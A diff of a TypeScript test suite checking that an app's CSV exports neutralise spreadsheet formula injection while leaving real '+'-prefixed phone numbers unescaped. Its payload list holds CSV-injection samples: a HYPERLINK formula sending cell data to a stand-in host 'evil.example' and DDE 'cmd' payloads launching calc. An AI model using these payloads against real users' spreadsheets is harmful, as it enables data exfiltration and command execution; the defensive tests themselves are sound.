@@ -12,7 +12,7 @@ import { productsToCsv } from '../features/products/api/export-products';
 import { tourOperatorsToCsv } from '../features/tour-operators/api/export-tour-operators';
 import { usersToCsv } from '../features/users/api/export-users';
 import { vehiclesToCsv } from '../features/vehicles/api/export-vehicles';
-import { CSV_SEPARATOR } from './csv';
+import { CSV_SEPARATOR, escapeCsvCell } from './csv';
 
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
@@ -22,6 +22,11 @@ const PAYLOADS = [
   "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
+  // Look like phone numbers, but are not plain ones: still neutralised.
+  "+34 600 000 000+cmd|' /C calc'!A0",
+  '+34600000000*A1',
+  '+1 (800) CALL-NOW',
+  '+123',
 ];
 const FORMULA_START = /^[=+\-@\t\r]/;
 /** Fields that hold dates, times or ids: kept valid so formatting does not fail first. */
@@ -223,5 +228,40 @@ describe('CSV exports neutralise formulas', () => {
     const cells = parseCsv(csv)[1];
     expect(cells).toContain('-5');
     expect(cells).toContain("'-5");
+  });
+});
+
+describe('a plain phone number is not a formula (issue 12)', () => {
+  it('phones typed with a leading + are written as typed, without an apostrophe', () => {
+    for (const phone of [
+      '+34 600 000 000',
+      '+34600000000',
+      '+44 (0)20 7946-0958',
+      '+1 800.555.0199',
+      '+351 912 345 678',
+    ]) {
+      expect(escapeCsvCell(phone), phone).toBe(phone);
+    }
+    const cells = parseCsv(bookingsToCsv([{ ...RECORDS.bookings, customer_phone: '+34 600 000 000' } as AnyRecord]))[1];
+    expect(cells).toContain('+34 600 000 000');
+    expect(cells).not.toContain("'+34 600 000 000");
+  });
+
+  it('anything else after a + (operators, letters, references, DDE, too few or too many digits) keeps the apostrophe', () => {
+    for (const s of [
+      '+1+1',
+      '+A1',
+      '+34 600 000 000+1',
+      '+34 600|cmd',
+      '+SUM(1;2)',
+      '+123',
+      '+1234567890123456',
+      '+34 600 000 000\n=1',
+      '-34 600 000 000',
+      '=34 600 000 000',
+      '@34600000000',
+    ]) {
+      expect(escapeCsvCell(s).replace(/^"/, ''), JSON.stringify(s)).toMatch(/^'/);
+    }
   });
 });
